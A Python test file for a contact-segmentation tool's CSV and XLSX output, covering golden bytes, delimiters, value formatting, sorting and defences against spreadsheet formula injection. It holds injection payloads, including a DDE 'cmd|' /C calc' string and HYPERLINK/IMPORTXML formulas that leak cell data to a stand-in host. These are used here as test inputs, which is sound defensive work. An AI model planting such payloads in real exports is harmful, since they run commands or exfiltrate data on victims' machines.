"""What the files of a run look like: byte by byte for a small project, and cell by cell for what could do harm.

`SEGTOOL_UPDATE_GOLDEN=1 pytest tests/test_csv_output.py` writes the kept files of tests/golden anew; read the
difference before you keep it. It is refused where CI is set.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import zipfile
from collections.abc import Mapping, Sequence
from pathlib import Path

import polars as pl
import pytest
from conftest import shared
from hypothesis import example, given, settings
from hypothesis import strategies as st
from lists import AS_OF, Table, as_csv, run_over

import segtool
from segtool.api import RunResult
from segtool.output import files
from segtool.output.csv import Style, write

GOLDEN = Path(__file__).parent / "golden"
PARTS = re.compile(r"xl/worksheets/|xl/workbook\.xml|docProps/core\.xml")
UPDATE = os.environ.get("SEGTOOL_UPDATE_GOLDEN") == "1"

# --- golden bytes --------------------------------------------------------------------------------------------


def stable(folder: Path) -> dict[str, bytes]:
    """Every file below the folder; of a workbook its sheets, its list of them and when it was made.

    The other parts and how they are packed are another program's affair, and change with its versions.
    """
    found: dict[str, bytes] = {}
    for path in sorted(path for path in folder.rglob("*") if path.is_file()):
        name = path.relative_to(folder).as_posix()
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as archive:
                parts = [part for part in archive.namelist() if PARTS.match(part)]
                found |= {f"{path.stem}/{part}": archive.read(part) for part in parts}
        else:
            found[name] = path.read_bytes()
    return found


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, bytes]]:
    """What two runs of the small project write, the second after some of its files changed."""
    folder = tmp_path_factory.mktemp("golden")
    for path in GOLDEN.iterdir():
        if path.is_file():
            shutil.copy(path, folder)
    found = {}
    for name in ("first", "second"):
        if name == "second":
            for path in (GOLDEN / "second").iterdir():
                shutil.copy(path, folder)
        segtool.run(segtool.load(folder / "segments.yaml"))
        found[name] = stable(folder / "output")
    return found


def kept(run: str) -> dict[str, bytes]:
    folder = GOLDEN / "expected" / run
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


@pytest.mark.parametrize("run", ["first", "second"])
def test_a_run_writes_these_bytes(published: Mapping[str, Mapping[str, bytes]], run: str) -> None:
    if UPDATE:
        if "CI" in os.environ:
            pytest.fail("the kept files are compared in CI, and never written there")
        shutil.rmtree(GOLDEN / "expected" / run, ignore_errors=True)
        for name, content in published[run].items():
            path = GOLDEN / "expected" / run / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content)
    expected = kept(run)
    assert sorted(published[run]) == sorted(expected)
    for name, content in published[run].items():
        assert content.decode() == expected[name].decode(), name


def test_the_kept_files_show_what_they_are_kept_for() -> None:
    first, second = kept("first"), kept("second")
    assert {"run.json", "summary.csv", "rejects.csv", "lists/everyone.csv", "changes/everyone.csv"} <= set(first)
    assert {"segments/xl/workbook.xml", "segments/docProps/core.xml", "segments/xl/worksheets/sheet1.xml"} <= set(first)
    assert "lists/helper.csv" not in first
    assert b"first run" in first["changes/buyers.csv"]
    assert b"left,bob@x.com" in second["changes/everyone.csv"]
    assert b"entered,eve@x.com" in second["changes/everyone.csv"]
    assert len(first["lists/nobody.csv"].splitlines()) == 1


def test_the_same_exports_give_the_same_bytes(tmp_path: Path) -> None:
    found = []
    for name in ("one", "two"):
        shutil.copytree(GOLDEN, tmp_path / name)
        segtool.run(segtool.load(tmp_path / name / "segments.yaml"))
        found.append(stable(tmp_path / name / "output"))
    assert found[0] == found[1]


MANY: Mapping[str, Mapping[str, object]] = {
    **{f"points_{points}": {"where": {"field": "points", "at_least": points}} for points in range(5)},
    "by_name": {"where": "everyone", "sort": "-name"},
    "dated": {"where": {"field": "points", "at_least": 1}, "columns": ["since", "email"]},
    "dated_too": {"where": {"field": "points", "at_least": 2}, "columns": ["since", "email"]},
}


@pytest.mark.parametrize(("lists", "lines"), [(1, 500_000), (2, 500_000), (32, 3)])
def test_lists_that_are_written_together_are_as_those_written_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, lists: int, lines: int
) -> None:
    found = []
    for name in ("as it is", "fewer"):
        for people, shift in (("abcdef", 0), ("abcde", 2)):
            rows = [[f"{who}@x.com", f"=N{who}", str((number + shift) % 6)] for number, who in enumerate(people)]
            run_over(tmp_path / name, [["email", "name", "points"], *rows], MANY, {"points": "number"})
        found.append(stable(tmp_path / name / "output"))
        monkeypatch.setattr(files, "_LISTS", lists)
        monkeypatch.setattr(files, "_LINES", lines)
    together, alone = found
    assert together == alone
    came = [line.split(",")[:2] for line in together["changes/points_3.csv"].decode().splitlines()[1:]]
    assert came == [["entered", "b@x.com"], ["entered", "c@x.com"], ["left", "e@x.com"], ["left", "f@x.com"]]


# --- one list ------------------------------------------------------------------------------------------------


def run(
    folder: Path,
    table: Table,
    types: Mapping[str, str] | None = None,
    segment: Mapping[str, object] | None = None,
    style: Mapping[str, object] | None = None,
    **top: object,
) -> RunResult:
    """A run over these contacts with one list of them all; its files are in `folder`/output."""
    segments = {"all": {"where": "everyone", **(segment or {})}}
    return run_over(folder, table, segments, types, output={"csv": style or {}}, **top)


def read(path: Path, delimiter: str = ",") -> list[list[str]]:
    """The cells of a file as any program that splits at `delimiter` finds them."""
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=delimiter))


def written(
    folder: Path,
    table: Table,
    types: Mapping[str, str] | None = None,
    segment: Mapping[str, object] | None = None,
    timezone: str = "UTC",
) -> list[list[str]]:
    """The cells of the list."""
    run(folder, table, types, segment, timezone=timezone)
    return read(folder / "output/lists/all.csv")


def of_texts(texts: Sequence[str]) -> Table:
    """Contacts with these texts as their names, so many that each has an id of its own."""
    return [["email", "name"], *([f"{number:03}@x.com", text] for number, text in enumerate(texts))]


def names(folder: Path, texts: Sequence[str]) -> list[str]:
    """How these texts are written in a column of text."""
    cells = written(folder, of_texts(texts), {"name": "text"})
    assert cells[0] == ["email", "name"]
    return [row[1] for row in cells[1:]]


def cells_of(texts: Sequence[str], folder: Path, style: Style = Style()) -> list[str]:  # noqa: B008
    """How a column of these texts is written, which need not be trimmed as those of files are."""
    write(pl.DataFrame({"id": ["x"] * len(texts), "name": texts}), folder / "cells.csv", style)
    return [row[1] for row in read(folder / "cells.csv", style.mark)[1:]]


# --- texts that would run ------------------------------------------------------------------------------------

TRIGGERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"]
HARMFUL = [
    *(f"{mark}SUM(1+1)" for mark in TRIGGERS),
    *(f"{mark}x" for mark in TRIGGERS),
    *(f"{mark}1+1|x" for mark in TRIGGERS),
    *TRIGGERS,
    "=1",
    "==1",
    "+-1",
    "-1+1",
    "+1-1",
    "+1 call me",
    "-A1",
    "-1.5x",
    "=1e5",
    "+371 26 123 456 ext. 7",
    "+37126123456|x",
    "+1-2345",
    "+1-234-567-890-123-456",
    "-1-202-358-0001",
    "-/-",
]


def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(tmp_path: Path) -> None:
    assert names(tmp_path, HARMFUL) == [f"'{text}" for text in HARMFUL]


@pytest.mark.parametrize("blank", ["\t", "\r", "\n", "\r\n", " ", "\u00a0", "\x0b", "\x00", " \t "])
@pytest.mark.parametrize("rest", [f"{mark}SUM(1)" for mark in TRIGGERS])
def test_blanks_before_it_do_not_hide_it(tmp_path: Path, blank: str, rest: str) -> None:
    (cell,) = cells_of([blank + rest], tmp_path)
    assert cell.startswith("'")
    assert cell.replace("'", "") == blank + rest


@pytest.mark.parametrize("text", ["\tx", "\rx", "\nx", "\t1"])
def test_a_text_that_begins_with_a_tab_or_a_line_end_gets_an_apostrophe_too(tmp_path: Path, text: str) -> None:
    assert cells_of([text], tmp_path) == ["'" + text]


def test_cells_that_were_made_harmless_are_counted(tmp_path: Path) -> None:
    table = [["email", "name", "note"], ["a@x.com", "=1+x", "@b"], ["b@x.com", "ok", "-c"], ["c@x.com", "-5", "+1"]]
    result = run(tmp_path, table, {"name": "text", "note": "text"}, {"columns": ["email", "name", "note"]})
    lists, changes = (read(tmp_path / "output" / section / "all.csv") for section in ("lists", "changes"))
    cells = [cell for row in (*lists, *changes) for cell in row]
    assert sum(cell.startswith("'") for cell in cells) == 6
    assert result.report.escaped == 6
    assert json.loads((tmp_path / "output/run.json").read_text())["escaped"] == 6


def test_rejected_values_are_made_harmless_and_counted_too(tmp_path: Path) -> None:
    result = run(tmp_path, [["email", "n"], ["a@x.com", "=1+1"], ["=2+2", "1"]], {"n": "integer"})
    assert [row[4] for row in read(tmp_path / "output/rejects.csv")[1:]] == ["'=1+1", "'=2+2"]
    assert result.report.escaped == 2


HARMLESS = [
    "5",
    "-5",
    "+5",
    "-1.5",
    "-1,5",
    "-.5",
    "-1,234.50",
    "-1.234,50",
    "-1 234,50",
    "-1'234.50",
    "+1e5",
    "-1.5e-5",
    "-5%",
    "+5 %",
    "+371 26 123 456",
    "+37126123456",
    "+1 (202) 358-0001",
    "+1-202-358-0001",
    "+44 20 7946.0958",
    "+49 (0)30/12345-67",
    "2026-05-01",
    "01/05/2026",
    "12:30",
    "a=b",
    "a@x.com",
    "x-y",
    "x +1",
    "'=1+1",
    "''",
    "it's",
    "Zoë = ok",
    "#1",
    "(1)",
    "Smith, -5",
    "Smith; +371 26 123 456",
    "one\ntwo",
    'say "hi"',
    "0",
    "007",
    "NaN",
    "null",
]


def test_numbers_phone_numbers_dates_and_plain_texts_are_as_they_were(tmp_path: Path) -> None:
    assert names(tmp_path, HARMLESS) == HARMLESS


def test_nothing_but_text_is_ever_altered(tmp_path: Path) -> None:
    table = [
        ["email", "i", "n", "b", "d", "t"],
        ["a@x.com", "-5", "-2.5", "true", "2026-05-01", "2026-05-01 10:00"],
        ["b@x.com", "5", "-1e-7", "false", "2026-05-02", "2026-05-01 10:00:30.5"],
    ]
    result = run(tmp_path, table)
    assert read(tmp_path / "output/lists/all.csv")[1:] == [
        ["a@x.com", "-5", "-2.5", "true", "2026-05-01", "2026-05-01 10:00:00"],
        ["b@x.com", "5", "-1e-7", "false", "2026-05-02", "2026-05-01 10:00:30"],
    ]
    assert result.report.escaped == 0


def test_the_id_is_never_altered(tmp_path: Path) -> None:
    keys = ["-5", "+371 26 123 456", "@ann", "-x", "+x@x", "'7", "a, b", "007"]
    table = [["key", "name"], *([f"'{key}" if key.startswith("'") else key, "x"] for key in keys)]
    result = run(tmp_path, table)
    for section, place in (("lists", 0), ("changes", 1)):
        assert sorted(row[place] for row in read(tmp_path / f"output/{section}/all.csv")[1:]) == sorted(keys)
    assert result.report.escaped == 0


def test_the_elements_of_a_list_are_one_text(tmp_path: Path) -> None:
    table = [["email", "tags"], ["a@x.com", "=1+x,b"], ["b@x.com", "b,=1"], ["c@x.com", '"=1,x",b']]
    assert [row[1] for row in written(tmp_path, table, {"tags": "list"})[1:]] == ["'=1+x, b", "b, =1", '"=1,x", b']


# --- payloads, in programs that split where they should not --------------------------------------------------

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1;"click")',
    '=IMPORTXML(CONCAT("http://x.example?",A1),"//a")',
    "＝1+1",
    '";=1+1;"',
    '=1;=2\t=3,=4\n=5"',
]
AROUND = ["{}", "x;{}", "x;{};y", "x\t{}", "x,{}", 'x;"{}', "x; {}", "x\n{}", 'x\n"{}', "{};{}", '"{}"', "x|{}", "'{}"]
MARKS = {",": ",", ";": ";", "tab": "\t"}


def would_run(cell: str) -> bool:
    """Whether a spreadsheet takes this cell for a formula; numbers and phone numbers are none."""
    plain = cell.lstrip(" \t\r\n\x00\u00a0")
    return bool(re.match("[=+\\-@＝＋－＠]", plain)) and not re.fullmatch(
        r"[-+]?[\d .,()/-]+(?:[eE][-+]?\d+)?%?", plain
    )


def nothing_runs(path: Path) -> None:
    """No cell of the file runs, whatever mark it is read by."""
    for mark in MARKS.values():
        for row in read(path, mark):
            assert [cell for cell in row if would_run(cell)] == [], (path.name, mark, row)


def harmless_everywhere(folder: Path, texts: Sequence[str]) -> None:
    """No cell of any file of a run does, whatever mark the files are written with."""
    for number, own in enumerate(MARKS):
        result = run(folder / str(number), of_texts(texts), {"name": "text"}, style={"delimiter": own})
        assert len(result.members["all"]) == len(texts)
        for path in (folder / str(number) / "output").rglob("*.csv"):
            nothing_runs(path)


@pytest.mark.parametrize("around", AROUND)
def test_payloads_are_harmless_whatever_a_program_splits_at(tmp_path: Path, around: str) -> None:
    harmless_everywhere(tmp_path, [around.replace("{}", payload) for payload in PAYLOADS])


def test_known_payloads_are_harmless_whatever_a_program_splits_at(tmp_path: Path) -> None:
    folder = shared("hostile/csv_injection")
    lines = {line.strip() for path in folder.rglob("*.txt") for line in path.read_text(encoding="utf-8").splitlines()}
    payloads = sorted(lines - {""})
    assert len(payloads) >= 5
    harmless_everywhere(tmp_path, [around.replace("{}", payload) for payload in payloads for around in AROUND])


@settings(max_examples=60, deadline=None, derandomize=True)
@given(texts=st.lists(st.text(st.sampled_from("=(|x1 \t\n\r;,\"'"), min_size=1, max_size=9), min_size=1, max_size=8))
@example(texts=['x;"=1'])
def test_any_mixture_of_marks_is_harmless(tmp_path_factory: pytest.TempPathFactory, texts: list[str]) -> None:
    path = tmp_path_factory.getbasetemp() / "mixture.csv"
    table = pl.DataFrame({"id": ["x"] * len(texts), "name": texts, "other": texts})
    for own in MARKS:
        write(table, path, Style(own))
        nothing_runs(path)


@pytest.mark.parametrize("name", [*PAYLOADS, "-x", "\t=1", '"=1"'])
def test_a_payload_as_the_name_of_a_column_is_harmless(tmp_path: Path, name: str) -> None:
    for own, mark in MARKS.items():
        run(tmp_path, [["email", name, "n"], ["a@x.com", "x", "1"]], style={"delimiter": own})
        header = read(tmp_path / "output/lists/all.csv", mark)[0]
        assert (header[0], len(header), header[-1]) == ("email", 3, "n")
        for other in MARKS.values():
            assert not [cell for cell in read(tmp_path / "output/lists/all.csv", other)[0] if would_run(cell)]


# --- quoting and the style -----------------------------------------------------------------------------------


def test_cells_are_quoted_where_any_delimiter_could_split_them(tmp_path: Path) -> None:
    texts = ["plain", "a b", "a,b", "a;b", "a|b", "a\tb", "a\nb", 'a"b', "ä"]
    run(tmp_path, of_texts(texts))
    lines = (tmp_path / "output/lists/all.csv").read_text(encoding="utf-8")
    quoted = ["plain", "a b", '"a,b"', '"a;b"', '"a|b"', '"a\tb"', '"a\nb"', '"a""b"', "ä"]
    assert lines == "email,name\n" + "".join(f"{n:03}@x.com,{cell}\n" for n, cell in enumerate(quoted))


@pytest.mark.parametrize(("delimiter", "mark"), [(",", ","), (";", ";"), ("tab", "\t"), ("\t", "\t")])
def test_the_delimiter_is_the_one_that_was_asked_for(tmp_path: Path, delimiter: str, mark: str) -> None:
    run(tmp_path, [["email", "a", "b"], ["a@x.com", "x,y;z", "1"]], style={"delimiter": delimiter})
    for section, first in (("lists", []), ("changes", ["change"])):
        rows = read(tmp_path / f"output/{section}/all.csv", mark)
        assert rows[0][: len(first) + 3] == [*first, "email", "a", "b"]
        assert rows[1][len(first) : len(first) + 3] == ["a@x.com", "x,y;z", "1"]
    assert read(tmp_path / "output/summary.csv", mark)[0][:2] == ["segment", "label"]
    assert read(tmp_path / "output/rejects.csv", mark)[0][:2] == ["source", "file"]


def test_numbers_have_the_decimal_mark_that_was_asked_for(tmp_path: Path) -> None:
    table = [["email", "n", "i", "text"], ["a@x.com", "-1.5", "2", "1.5"], ["b@x.com", "1e-7", "3", "x"]]
    style = {"delimiter": ";", "decimal": ","}
    run(tmp_path, table, {"n": "number", "text": "text"}, style=style)
    assert read(tmp_path / "output/lists/all.csv", ";")[1:] == [
        ["a@x.com", "-1,5", "2", "1.5"],
        ["b@x.com", "1e-7", "3", "x"],
    ]


@pytest.mark.parametrize("bom", [True, False])
def test_every_file_begins_with_a_mark_where_that_was_asked_for(tmp_path: Path, bom: bool) -> None:
    run(tmp_path, [["email", "a"], ["a@x.com", "é"]], style={"delimiter": ";", "bom": bom})
    paths = list((tmp_path / "output").rglob("*.csv"))
    assert len(paths) == 4
    assert {path.read_bytes().startswith(b"\xef\xbb\xbf") for path in paths} == {bom}
    assert (tmp_path / "output/lists/all.csv").read_bytes().removeprefix(
        b"\xef\xbb\xbf"
    ) == b"email;a\na@x.com;\xc3\xa9\n"


def test_a_row_without_any_value_is_a_row(tmp_path: Path) -> None:
    table = [["email", "name"], ["a@x.com", ""], ["b@x.com", "B"], ["c@x.com", ""]]
    assert written(tmp_path, table, None, {"columns": ["name"]}) == [["name"], [""], ["B"], [""]]


UNSEEN = "\xad\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff"
"""Signs that nobody sees: reading leaves them out."""
SEEN = st.characters(exclude_characters=f"\0{UNSEEN}", codec="utf-8")


@settings(max_examples=25, deadline=None, derandomize=True)
@given(texts=st.lists(st.text(SEEN, max_size=8), min_size=1, max_size=6))
@example(texts=["x\x01", "\x1b[31m", "\u2028", "\x85", "😀"])
def test_every_text_comes_back_as_it_went_in(tmp_path_factory: pytest.TempPathFactory, texts: list[str]) -> None:
    folder = tmp_path_factory.mktemp("texts")
    run(folder, of_texts(texts), {"name": "text"})
    cells = [row[1] for row in read(folder / "output/lists/all.csv")[1:]]
    plain = [text.replace("\r\n", "\n").replace("\r", "\n").split() for text in texts]
    shown = [cell.replace("\r\n", "\n").replace("\r", "\n").replace("'", "").split() for cell in cells]
    assert shown == [" ".join(words).replace("'", "").split() for words in plain]


# --- how values are written ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "value", "shown"),
    [
        ("number", "20", "20"),
        ("number", "20.0", "20"),
        ("number", "20.50", "20.5"),
        ("number", "0.1", "0.1"),
        ("number", "-0.25", "-0.25"),
        ("number", "100000", "100000"),
        ("number", "123456789012", "123456789012"),
        ("integer", "5.0", "5"),
        ("integer", "007", "7"),
        ("boolean", "YES", "true"),
        ("boolean", "0", "false"),
        ("text", "20.0", "20.0"),
        ("text", "TRUE", "TRUE"),
        ("date", "31/12/2026", "2026-12-31"),
        ("list", "a,b", "a, b"),
        ("list", ' "a,b" , c', '"a,b", c'),
        ("list", '"say ""hi""",b', '"say ""hi""", b'),
        ("list", "a", "a"),
        ("email", "Ann@X.com", "ann@x.com"),
        ("number", "", ""),
        ("list", "", ""),
        ("date", "", ""),
    ],
)
def test_a_value_is_written_so(tmp_path: Path, kind: str, value: str, shown: str) -> None:
    assert written(tmp_path, [["email", "v"], ["a@x.com", value]], {"v": kind})[1] == ["a@x.com", shown]


@pytest.mark.parametrize(
    ("value", "zone", "shown"),
    [
        ("2026-07-01T00:30:00Z", "Europe/Riga", "2026-07-01 03:30:00"),
        ("2026-01-01T00:30:00Z", "America/New_York", "2025-12-31 19:30:00"),
        ("2026-07-01T00:30:00+02:00", "UTC", "2026-06-30 22:30:00"),
        ("2026-07-01 09:00", "Asia/Kathmandu", "2026-07-01 09:00:00"),
        ("2026-07-01", "Europe/Riga", "2026-07-01 00:00:00"),
    ],
)
def test_instants_are_shown_as_the_clock_of_the_zone_showed_them(
    tmp_path: Path, value: str, zone: str, shown: str
) -> None:
    table = [["email", "v"], ["a@x.com", value]]
    assert written(tmp_path, table, {"v": "datetime"}, timezone=zone)[1] == ["a@x.com", shown]


def test_what_was_written_is_read_as_the_same_values(tmp_path: Path) -> None:
    table = [
        ["email", "i", "n", "b", "d", "t", "l", "s"],
        ["a@x.com", "5", "2.5", "true", "2026-05-01", "2026-05-01 10:00", 'a, "b,c"', "x"],
        ["b@x.com", "", "", "", "", "", "", ""],
    ]
    types = {"t": "datetime", "l": "list"}
    once = written(tmp_path, table, types, timezone="Europe/Riga")
    assert written(tmp_path / "again", once, types, timezone="Europe/Riga") == once


# --- columns and order ---------------------------------------------------------------------------------------

PEOPLE = [["name", "email", "n"], ["Ann", "a@x.com", "1"], ["Bob", "b@x.com", "2"]]


def listed(folder: Path, segment: Mapping[str, object], **top: object) -> list[list[str]]:
    """A list of people with a table of attributes beside them."""
    (folder / "contacts.csv").write_text(as_csv(PEOPLE))
    (folder / "crm.csv").write_text("email,stage,n\nA@x.com,won,7\n")
    sources = {
        "contacts": {"files": "contacts.csv", "id": "email"},
        "crm": {"files": "crm.csv", "contact": "email"},
    }
    config = {"version": 1, "sources": sources, "segments": {"all": {"where": "everyone", **segment}}, **top}
    segtool.run(segtool.load(config, base=folder), as_of=AS_OF)
    return read(folder / "output/lists/all.csv")


def test_a_list_shows_the_id_first_and_then_all_columns_of_contacts(tmp_path: Path) -> None:
    assert listed(tmp_path, {}) == [["email", "name", "n"], ["a@x.com", "Ann", "1"], ["b@x.com", "Bob", "2"]]


def test_a_list_shows_the_columns_it_names_in_their_order(tmp_path: Path) -> None:
    found = listed(tmp_path, {"columns": ["n", "crm.stage", "email", "crm.n"]})
    assert found == [["n", "crm.stage", "email", "crm.n"], ["1", "won", "a@x.com", "7"], ["2", "", "b@x.com", ""]]


def test_columns_of_the_file_are_those_of_every_list_that_names_none(tmp_path: Path) -> None:
    output = {"columns": ["crm.stage", "email"]}
    assert listed(tmp_path, {}, output=output)[0] == ["crm.stage", "email"]
    assert listed(tmp_path, {"columns": "name"}, output=output)[0] == ["name"]


def test_columns_are_named_loosely_and_shown_by_their_own_name(tmp_path: Path) -> None:
    assert listed(tmp_path, {"columns": ["E-Mail", "NAME", "email"]})[0] == ["email", "name"]


def test_changes_show_what_happened_the_columns_of_the_list_and_why(tmp_path: Path) -> None:
    listed(tmp_path, {"columns": ["email", "crm.stage"]})
    assert read(tmp_path / "output/changes/all.csv") == [
        ["change", "email", "crm.stage", "reason"],
        ["entered", "a@x.com", "won", "first run"],
        ["entered", "b@x.com", "", "first run"],
    ]


def test_who_is_no_longer_in_contacts_shows_the_id_alone(tmp_path: Path) -> None:
    run(tmp_path, PEOPLE_BY_ID)
    run(tmp_path, PEOPLE_BY_ID[:-1])
    assert read(tmp_path / "output/changes/all.csv") == [
        ["change", "email", "n", "name", "reason"],
        ["left", "d@x.com", "", "", "no longer in contacts"],
    ]


@pytest.mark.parametrize("name", ["change", "reason"])
def test_contacts_may_have_columns_of_the_names_that_changes_have(tmp_path: Path, name: str) -> None:
    run(tmp_path, [["email", name, f"{name} (2)"], ["a@x.com", "mine", "too"]])
    header, row = read(tmp_path / "output/changes/all.csv")
    assert len(set(header)) == len(header) == len(row) == 5
    assert (row[0], row[1:4], row[4]) == ("entered", ["a@x.com", "mine", "too"], "first run")


PEOPLE_BY_ID = [
    ["email", "n", "name"],
    ["a@x.com", "2", "b"],
    ["b@x.com", "", "a"],
    ["c@x.com", "10", "B"],
    ["d@x.com", "2", ""],
]


@pytest.mark.parametrize(
    ("sort", "order"),
    [
        ([], "abcd"),
        (["n"], "adcb"),
        (["-n"], "cadb"),
        (["name"], "cbad"),
        (["-name"], "abcd"),
        (["-email"], "dcba"),
        (["n", "-email"], "dacb"),
        (["-n", "name"], "cadb"),
        (["n", "name"], "adcb"),
        (["N", "-Name"], "adcb"),
        (["n", "-n"], "adcb"),
    ],
)
def test_a_list_is_sorted_as_asked_with_missing_values_last_and_ties_by_id(
    tmp_path: Path, sort: list[str], order: str
) -> None:
    segment = {"sort": sort} if sort else {}
    shuffled = [PEOPLE_BY_ID[0], *(PEOPLE_BY_ID[place] for place in (3, 1, 4, 2))]
    cells = written(tmp_path, shuffled, None, {**segment, "columns": ["email"]})
    assert "".join(row[0][0] for row in cells[1:]) == order


@pytest.mark.parametrize(
    ("kind", "values", "order"),
    [
        ("number", ["9", "10", "-1", ""], "cabd"),
        ("date", ["2026-02-01", "2025-12-31", "", "2026-01-01"], "bdac"),
        ("datetime", ["2026-01-01T00:00Z", "2026-01-01T00:00+02:00", "", "2025-01-01"], "dbac"),
        ("boolean", ["true", "false", "", "yes"], "badc"),
        ("text", ["b", "a", "É", "Z"], "dbac"),
        ("list", ["b", "a,z", "", "a,b"], "dbac"),
    ],
)
def test_values_of_every_type_are_sorted_by_what_they_mean(
    tmp_path: Path, kind: str, values: list[str], order: str
) -> None:
    table = [["email", "v"], *([f"{mark}@x.com", value] for mark, value in zip("abcd", values, strict=True))]
    cells = written(tmp_path, table, {"v": kind}, {"sort": "v", "columns": ["email"]})
    assert "".join(row[0][0] for row in cells[1:]) == order


def test_the_table_of_an_evaluation_is_the_list_that_a_run_writes(tmp_path: Path) -> None:
    (tmp_path / "contacts.csv").write_text(as_csv(PEOPLE_BY_ID))
    segment = {"where": "everyone", "columns": ["name", "email"], "sort": "-n"}
    config = {
        "version": 1,
        "sources": {"contacts": {"files": "contacts.csv", "id": "email"}},
        "segments": {"all": segment},
    }
    found = segtool.evaluate(segtool.load(config, base=tmp_path), as_of=AS_OF).table("all")
    segtool.run(segtool.load(config, base=tmp_path), as_of=AS_OF)
    shown = [[cell or "" for cell in row] for row in found.rows()]
    assert [found.columns, *shown] == read(tmp_path / "output/lists/all.csv")
